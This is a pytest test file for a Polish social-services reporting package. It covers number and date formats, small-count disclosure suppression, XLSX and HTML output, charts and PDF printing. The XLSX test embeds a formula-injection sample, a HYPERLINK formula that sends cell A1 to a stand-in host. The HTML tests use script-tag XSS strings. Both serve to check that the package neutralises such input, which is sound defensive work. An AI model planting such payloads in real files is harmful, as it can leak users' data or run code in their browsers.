"""Report building blocks: Polish formats, disclosure control, XLSX without formula injection,
HTML escaping. Pure functions on small hand-made inputs (no warehouse, no browser)."""

from datetime import date
from decimal import Decimal

import openpyxl
import pytest

from reports.formatting import Suppressed, fmt, money, number, percent, pl_date, quarter_label
from reports.model import Column, Fact, Report, Section, Table
from reports.suppression import suppress_rows

NBSP = "\u00a0"


def test_polish_number_money_date_and_percent_formats():
    assert money(Decimal("1234567.89")) == f"1{NBSP}234{NBSP}567,89{NBSP}zł"
    assert money(Decimal("2489370.50")) == f"2{NBSP}489{NBSP}370,50{NBSP}zł"
    assert money(Decimal("0")) == f"0,00{NBSP}zł"
    assert number(Decimal("1234.5")) == f"1{NBSP}234,50"
    assert percent(Decimal("0.7")) == "70,0%"
    assert percent(Decimal("0.35")) == "35,0%"
    assert percent(Decimal("1.2345")) == "123,5%"
    assert pl_date(date(2022, 3, 31)) == "31.03.2022"
    assert quarter_label("2022Q1") == "I kwartał 2022" and quarter_label("2021Q4") == "IV kwartał 2021"
    assert fmt(Decimal("1200"), "int") == f"1{NBSP}200" and fmt(Decimal("12.5"), "int") == "12,5"
    assert fmt(None, "money") == "—" and fmt(True, "flag") == "tak"
    assert fmt(Suppressed(5), "int") == "<5" and fmt(Suppressed(5, primary=False), "int") == "•"


def test_suppression_hides_small_counts_and_what_would_reveal_them():
    # One row: total = women + men. 3 women is small; men (9) would reveal them from the total.
    row = {"cumulative_total": Decimal(12), "cumulative_women": Decimal(3), "cumulative_men": Decimal(9)}
    hidden = suppress_rows([row], ["cumulative_total", "cumulative_women", "cumulative_men"], 5,
                           additive_groups=[("cumulative_total", ("cumulative_women", "cumulative_men"))])
    assert row == {"cumulative_total": Decimal(12), "cumulative_women": Suppressed(5, True),
                   "cumulative_men": Suppressed(5, False)}
    assert hidden == 2
    # Zero and counts at the threshold stay visible.
    row = {"cumulative_total": Decimal(5), "cumulative_women": Decimal(5), "cumulative_men": Decimal(0)}
    assert suppress_rows([row], list(row), 5, [("cumulative_total", ("cumulative_women", "cumulative_men"))]) == 0
    # Units × category with a published column total: one small unit forces a second (the smallest other).
    units = [{"u": "a", "x": Decimal(2)}, {"u": "b", "x": Decimal(40)}, {"u": "c", "x": Decimal(7)}]
    total = {"u": "Razem", "x": Decimal(49)}
    suppress_rows(units, ["x"], 5, total_row=total)
    assert [r["x"] for r in units] == [Suppressed(5, True), Decimal(40), Suppressed(5, False)]
    assert total["x"] == Decimal(49)
    # The threshold is a setting.
    units = [{"x": Decimal(7)}, {"x": Decimal(12)}]
    suppress_rows(units, ["x"], 10)
    assert units[0]["x"] == Suppressed(10) and fmt(units[0]["x"], "int") == "<10" and units[1]["x"] == Decimal(12)


def _tiny_report(text: str) -> Report:
    table = Table("t", "Tabela", [Column("name", "Nazwa"), Column("amount", "Kwota", "money"),
                                  Column("n", "Liczba", "int"), Column("day", "Data", "date")],
                  [{"name": text, "amount": Decimal("1234567.89"), "n": Suppressed(5), "day": date(2022, 3, 31)},
                   {"name": "+48 600", "amount": Decimal("-5.00"), "n": Decimal(7), "day": None}])
    section = Section("s", "Sekcja", "Sekcja", facts=[Fact("Opis", text)], tables=[table])
    return Report("unit", "u", "Raport", "2022Q1", date(2021, 1, 1), date(2023, 5, 31),
                  __import__("datetime").datetime(2022, 4, 20, 8, 0), [section])


def test_xlsx_cells_are_typed_and_source_text_is_never_a_formula(tmp_path):
    from reports.xlsx import write_xlsx

    evil = '=HYPERLINK("http://zly.example/?x="&A1;"kliknij")'
    path = write_xlsx(_tiny_report(evil), tmp_path / "a.xlsx")
    ws = openpyxl.load_workbook(path)["Sekcja"]
    cells = {(c.row, c.column): c for row in ws.iter_rows() for c in row if c.value is not None}
    formula_like = [c for c in cells.values() if isinstance(c.value, str) and c.value.startswith(("=", "+", "-", "@"))]
    assert formula_like and all(c.data_type == "s" for c in formula_like)
    assert any(c.value == evil and c.data_type == "s" for c in cells.values())
    money_cell = next(c for c in cells.values() if c.value == pytest.approx(1234567.89))
    assert money_cell.data_type == "n" and "#,##0.00" in money_cell.number_format
    assert any(c.value == "<5" and c.data_type == "s" for c in cells.values())
    assert any(getattr(c.value, "year", None) == 2022 and c.number_format == "dd.mm.yyyy" for c in cells.values())


def test_html_escapes_source_text():
    from reports.html import render_html

    html = render_html(_tiny_report("<script>alert('x')</script> & Co"))
    assert "<script>alert" not in html
    assert "&lt;script&gt;alert(&#39;x&#39;)&lt;/script&gt; &amp; Co" in html
    assert f"1{NBSP}234{NBSP}567,89{NBSP}zł" in html and "31.03.2022" in html and ">&lt;5<" in html


def _chart_report(label: str) -> Report:
    from reports.charts import services_by_area

    report = _tiny_report("opis")
    report.sections[0].charts.append(services_by_area([{"area_label": label, "value": Decimal("1500.00"),
                                                         "deliveries": 3}]))
    return report


def test_the_printed_page_shows_charts_as_images_and_runs_no_script():
    from reports.html import render_html

    report = _chart_report("Pomoc <script>alert(1)</script>")
    drawn = render_html(report)
    assert 'id="cus-plotly"' in drawn and "cusChart(" in drawn  # the HTML report draws its chart
    printed = render_html(report, static_charts={"areas": "data:image/svg+xml;base64,PHN2Zy8+"})
    assert "<script" not in printed and "cus-plotly" not in printed
    assert '<img class="chart-image" src="data:image/svg+xml;base64,PHN2Zy8+" alt="wykres: areas">' in printed


def test_pdf_prints_the_chart_drawn_as_svg_with_its_text(tmp_path):
    import subprocess

    from reports.pdf import PdfPrinter

    report = _chart_report("Pomoc <b>sąsiedzka</b> & spółka")
    with PdfPrinter(parallel=1, timeout=60) as printer:
        pdf = printer.submit_report(report, tmp_path / "r.pdf").result()
        again = printer.submit_report(report, tmp_path / "r2.pdf").result()  # a reused page prints the same
    text = subprocess.run(["pdftotext", "-layout", str(pdf), "-"], capture_output=True, text=True, check=True).stdout
    # the chart's title and its bar label are SVG text in the PDF; the label's markup is text, not HTML
    assert "Wartość usług według obszarów ustawy" in text and "1 500,00 zł" in text.replace("\xa0", " ")
    assert "Pomoc sąsiedzka & spółka" in text or "Pomoc <b>sąsiedzka</b> & spółka" in text
    again_text = subprocess.run(["pdftotext", "-layout", str(again), "-"], capture_output=True, text=True).stdout
    assert again_text == text


def test_a_free_page_goes_to_a_waiting_unit_report_before_a_consolidated_one():
    import asyncio

    from reports.pdf import UNIT_FIRST, PrintSlots

    async def scenario() -> list[str]:
        slots, order = PrintSlots(1), []
        release = asyncio.Event()

        async def report(name: str, scope: str, hold: bool = False) -> None:
            async with slots.slot(UNIT_FIRST[scope]):
                order.append(name)
                if hold:
                    await release.wait()

        first = asyncio.ensure_future(report("zbiorczy 2021Q3", "consolidated", hold=True))
        await asyncio.sleep(0)
        waiting = [asyncio.ensure_future(report(name, scope)) for name, scope in [
            ("zbiorczy 2021Q4", "consolidated"), ("jednostka 2021Q4", "unit"), ("zbiorczy 2022Q1", "consolidated"),
            ("jednostka 2022Q1", "unit")]]
        cancelled = asyncio.ensure_future(report("anulowany", "unit"))  # gives up waiting: its turn is skipped
        await asyncio.sleep(0)
        cancelled.cancel()
        release.set()
        await asyncio.gather(first, *waiting)
        async with slots.slot(1):  # the page is free again: nothing leaked by the cancelled waiter
            order.append("później")
        return order

    assert asyncio.run(scenario()) == ["zbiorczy 2021Q3", "jednostka 2021Q4", "jednostka 2022Q1", "zbiorczy 2021Q4",
                                       "zbiorczy 2022Q1", "później"]


def test_the_printer_prints_a_unit_report_before_consolidated_ones_submitted_earlier(tmp_path):
    from reports.pdf import PdfPrinter

    consolidated = [_chart_report(f"Zbiorczy {i}") for i in range(3)]
    for report in consolidated:
        report.scope = "consolidated"
    with PdfPrinter(parallel=1, timeout=60) as printer:
        futures = [printer.submit_report(r, tmp_path / f"zbiorczy{i}.pdf") for i, r in enumerate(consolidated)]
        unit = printer.submit_report(_chart_report("Jednostka"), tmp_path / "jednostka.pdf")
        printer.drain()
    finished = sorted([f.result() for f in futures] + [unit.result()], key=lambda path: path.stat().st_mtime_ns)
    # the first consolidated report had the page (or waited for the browser first); the unit's came next
    assert finished.index(tmp_path / "jednostka.pdf") <= 1


def test_a_browser_started_early_is_the_next_printers_and_closed_when_nobody_takes_it(tmp_path):
    from reports import pdf

    pdf.start_early(parallel=1, timeout=60)
    early = pdf._early
    pdf.start_early(parallel=1, timeout=60)  # one at a time
    assert early is not None and pdf._early is early
    with pdf.printer(parallel=1, timeout=60) as chosen:
        assert chosen is early
        assert chosen.submit_report(_chart_report("Wcześnie"), tmp_path / "r.pdf").result().read_bytes()[:5] == b"%PDF-"
    assert pdf._early is None and not early._thread.is_alive()  # taken, then closed with the run's reports
    pdf.start_early(parallel=2, timeout=60)
    other = pdf._early
    with pdf.printer(parallel=1, timeout=60) as chosen:  # other settings: a browser of its own
        assert chosen is not other and chosen.parallel == 1 and not other._thread.is_alive()
    pdf.start_early(parallel=1, timeout=60)
    unused = pdf._early
    pdf.close_early()  # e.g. the batch failed: no reports follow
    assert pdf._early is None and not unused._thread.is_alive()


def test_fractional_service_units_keep_their_decimals_in_html_and_xlsx(tmp_path):
    from reports.html import render_html
    from reports.xlsx import write_xlsx

    table = Table("t", "Usługi", [Column("name", "Usługa"), Column("units", "Jednostki w kwartale", "quantity")],
                  [{"name": "Opieka", "units": Decimal("1270.5")}, {"name": "Taxi", "units": Decimal("636.00")}])
    report = Report("unit", "u", "Raport", "2022Q1", date(2021, 1, 1), date(2023, 5, 31),
                    __import__("datetime").datetime(2022, 4, 20, 8, 0),
                    [Section("s", "Sekcja", "Sekcja", tables=[table])])
    assert fmt(Decimal("1270.5"), "quantity") == f"1{NBSP}270,5" and fmt(Decimal("636.00"), "quantity") == "636"
    html = render_html(report)
    assert f">1{NBSP}270,5<" in html and ">636<" in html
    ws = openpyxl.load_workbook(write_xlsx(report, tmp_path / "q.xlsx"))["Sekcja"]
    cells = {c.value: c for row in ws.iter_rows() for c in row if isinstance(c.value, (int, float))}
    # 1270.5 is shown with its decimal (not rounded to "1 271"); a whole quantity has no decimal comma.
    assert cells[1270.5].data_type == "n" and cells[1270.5].number_format == "#,##0.0#"
    assert cells[636].number_format == "#,##0"


def _series(*triples):
    quarters = ("2022Q1", "2022Q2", "2022Q3", "2022Q4", "2023Q1", "2023Q2")
    rows, previous = [], (0, 0, 0)
    for quarter, cumulative in zip(quarters, triples):
        rows.append({"quarter": quarter, **dict(zip(("cumulative_total", "cumulative_women", "cumulative_men"),
                                                    map(Decimal, cumulative))),
                     **dict(zip(("quarter_total", "quarter_women", "quarter_men"),
                                (Decimal(c - p) for c, p in zip(cumulative, previous))))})
        previous = cumulative
    return rows


def test_sequential_disclosure_closes_the_differencing_leak_across_quarters():
    from reports.suppression import sequential_disclosure

    # 15/10/5 published; 17/12/5 would give away 2 women by difference -> hidden with its quarter value;
    # 23/15/8 differs from the LAST PUBLISHED 15/10/5 by 8/5/3 -> hidden; 30/20/10 differs by 15/10/5
    # -> published, but its quarter value (7/5/2) is not (the previous cumulative was hidden);
    # 40/25/15 published with its quarter value 10/5/5.
    series = _series((15, 10, 5), (17, 12, 5), (23, 15, 8), (30, 20, 10), (40, 25, 15), (41, 26, 15))
    decided = sequential_disclosure(series, 5)
    assert decided == {"2022Q1": (True, True), "2022Q2": (False, False), "2022Q3": (False, False),
                       "2022Q4": (True, False), "2023Q1": (True, True), "2023Q2": (False, False)}
    # No two published cumulatives differ by 1..4 in any component.
    published = [r for r in series if decided[r["quarter"]][0]]
    for a, b in zip(published, published[1:]):
        for key in ("cumulative_total", "cumulative_women", "cumulative_men"):
            assert not 0 < abs(b[key] - a[key]) < 5
    # A small component hides the whole triple; zero discloses nobody; the threshold is a parameter.
    assert sequential_disclosure(_series((6, 4, 2), (6, 4, 2)), 5) == {"2022Q1": (False, False),
                                                                       "2022Q2": (False, False)}
    assert sequential_disclosure(_series((0, 0, 0), (6, 6, 0)), 5) == {"2022Q1": (True, True),
                                                                       "2022Q2": (True, True)}
    assert sequential_disclosure(_series((15, 10, 5), (17, 12, 5)), 2) == {"2022Q1": (True, True),
                                                                           "2022Q2": (True, True)}


def test_consolidated_sum_is_hidden_where_a_unit_is():
    from reports.suppression import disclosure_by_series, summed_series

    a = [{**r, "unit": "a", "code": "HOMELESS"} for r in _series((15, 10, 5), (17, 12, 5), (30, 20, 10))]
    b = [{**r, "unit": "b", "code": "HOMELESS"} for r in _series((20, 10, 10), (30, 15, 15), (40, 20, 20))]
    units = disclosure_by_series(a + b, 5)
    assert units[("a", "HOMELESS", "2022Q2")] == (False, False) and units[("b", "HOMELESS", "2022Q2")] == (True, True)
    summed, decided = summed_series(a + b, units, 5)
    # 2022Q2: the sum 47/27/20 differs from 35/20/15 by 12/7/5 — fine by itself, but a − b would
    # give a's hidden 17 away: hidden. 2022Q3: both units published, the sum 70/40/30 too.
    assert [(r["quarter"], r["cumulative_total"]) for r in summed] == [("2022Q1", 35), ("2022Q2", 47), ("2022Q3", 70)]
    assert decided == {("HOMELESS", "2022Q1"): (True, True), ("HOMELESS", "2022Q2"): (False, False),
                       ("HOMELESS", "2022Q3"): (True, False)}


def test_polish_plural_of_rows_follows_the_cldr_rule():
    from reports.formatting import row_count

    assert [row_count(n) for n in (0, 1, 2, 4, 5, 12, 14, 21, 22, 104, 112, 1001)] == [
        "0 wierszy", "1 wiersz", "2 wiersze", "4 wiersze", "5 wierszy", "12 wierszy", "14 wierszy", "21 wierszy",
        "22 wiersze", "104 wiersze", "112 wierszy", "1 001 wierszy"]


def test_polish_counts_agree_with_the_number_and_group_thousands():
    from reports.formatting import count, row_count

    runs = ("przebieg udany", "przebiegi udane", "przebiegów udanych")
    assert [count(n, *runs) for n in (1, 2, 5)] == ["1 przebieg udany", "2 przebiegi udane", "5 przebiegów udanych"]
    assert count(1, "partycja", "partycje", "partycji") == "1 partycja"
    # thousands grouped as in the reports (reports.formatting.integer), a plain space in terminal text
    assert [row_count(n) for n in (999, 1001, 249782)] == ["999 wierszy", "1 001 wierszy", "249 782 wiersze"]


def test_sql_pl_money_formats_exact_decimal_like_babel():
    """report.pl_money (assets/report/sql/report_macros.sql) never goes through DOUBLE: a value with
    more significant digits than a double holds keeps its last grosz."""
    import duckdb

    from assets.mart.sql_tables import REPORT_MACROS_SQL
    from reports.formatting import plain_money

    conn = duckdb.connect()
    conn.execute("CREATE SCHEMA report")
    conn.execute(REPORT_MACROS_SQL.read_text(encoding="utf-8"))
    cases = {"CAST(12345678901234567.89 AS DECIMAL(38, 2))": "12 345 678 901 234 567,89 zł",
             "CAST(2489370.50 AS DECIMAL(18, 2))": "2 489 370,50 zł",
             "CAST(-0.50 AS DECIMAL(18, 2))": "-0,50 zł",
             "CAST(0.125 AS DECIMAL(9, 3))": "0,13 zł",  # half up to the grosz
             "CAST(7000 AS INTEGER)": "7 000,00 zł"}
    for expression, expected in cases.items():
        assert conn.execute(f"SELECT report.pl_money({expression})").fetchone()[0] == expected
    assert plain_money(Decimal("12345678901234567.89")) == "12 345 678 901 234 567,89 zł"
    assert plain_money(Decimal("0.125")) == "0,13 zł" and plain_money(Decimal("-0.50")) == "-0,50 zł"
    assert conn.execute("SELECT report.pl_money(NULL::DECIMAL(18, 2))").fetchone()[0] is None


def test_delivery_modes_and_dataset_labels_come_from_the_contract():
    from core.contract import commissioned_modes, delivery_modes
    from reports.labels import DATASETS, mode_label

    assert commissioned_modes() == ("pes", "ngo", "social_clause")
    assert delivery_modes()["own"] == "samodzielnie" and mode_label("ngo") == "zlecenie NGO"
    assert DATASETS["budget"] == "budżet (umowa/budzet.csv)"
    assert DATASETS["participants"] == "uczestnicy (uczestnicy.xlsx)"


def test_every_chart_is_a_valid_plotly_figure():
    """The charts are written as plain plotly JSON (reports/charts.py): plotly.py's graph objects
    check every property here, so a misspelt one fails this test instead of vanishing in the browser."""
    import json

    import plotly.graph_objects as go

    from reports import charts

    quarters = ["2021Q1", "2021Q2", "2021Q3", "2021Q4", "2022Q1", "2022Q2", "2022Q3"]
    built = [
        charts.spending_vs_plan([{"quarter": q, "planned_cum": Decimal(100 * i), "actual_cum": Decimal(90 * i) if i < 3
                                  else None, "projected_cum": Decimal(95 * i)} for i, q in enumerate(quarters)],
                                Decimal("1000.00")),
        charts.indicator_progress([{"label": "Liczba osób objętych usługami społecznymi świadczonymi w interesie "
                                    "ogólnym", "pct": Decimal("0.5"), "cumulative": 5, "target": 10},
                                   {"label": "Liczba CUS", "pct": Decimal("1.2"), "cumulative": 12, "target": 10}]),
        charts.services_by_area([{"area_label": "4. pomoc społeczna", "value": Decimal("10.00"), "deliveries": 2}]),
        charts.participants_by_sex_age([{"age_group": "poniżej 25 lat", "women": 3, "men": Decimal(4)},
                                        {"age_group": "25–54 lata", "women": None, "men": 1}]),
    ]
    for chart in built:
        spec = json.loads(chart.figure_json)
        figure = go.Figure(spec)  # raises ValueError on any property plotly.js does not know
        assert figure.layout.width == 700 and figure.layout.separators == ",\u00a0"
        assert figure.layout.template.layout.colorway  # plotly.py's default template, as before
        assert f'id="chart-{chart.chart_id}"' in chart.fragment and "cusChart(" in chart.fragment
    spending = json.loads(built[0].figure_json)
    assert spending["layout"]["shapes"][0]["y0"] == 1000.0 and "budżet 1" in spending["layout"]["annotations"][0]["text"]
    assert spending["layout"]["xaxis"]["tickangle"] == -45  # seven quarters: slanted labels
    assert [t["name"] for t in spending["data"]] == ["plan (harmonogram)", "wydatki kwalifikowalne (narastająco)",
                                                     "prognoza (tempo wydatków)"]
    assert json.loads(built[1].figure_json)["data"][0]["marker"]["color"] == ["#0b4f8a", "#2e8b57"]  # ≥ 100%: green


def test_a_browser_that_cannot_start_fails_the_pdf_with_a_clear_message(tmp_path, monkeypatch):
    import reports.pdf as pdf

    monkeypatch.setattr(pdf, "CHROMIUM", str(tmp_path / "brak-chromium"))
    with pdf.PdfPrinter(parallel=1, timeout=10) as printer:  # the start runs in the background
        future = printer.submit_report(_chart_report("Pomoc"), tmp_path / "r.pdf")
        with pytest.raises(pdf.PdfError, match="Brak przeglądarki Chromium"):
            future.result(timeout=30)
        with pytest.raises(pdf.PdfError):
            printer.drain()
    assert not (tmp_path / "r.pdf").exists()


def test_a_share_below_100_percent_never_reads_100_percent():
    from decimal import Decimal

    from reports.formatting import percent, percent_decimals

    shares = ("1", "0.9994", "0.9996", "0.99996", "1.0004", "0.7")
    assert [percent(Decimal(v)) for v in shares] == ["100,0%", "99,9%", "99,96%", "99,996%", "100,04%", "70,0%"]
    assert [percent_decimals(Decimal(v)) for v in shares] == [1, 1, 2, 3, 2, 1]  # the XLSX cell format follows
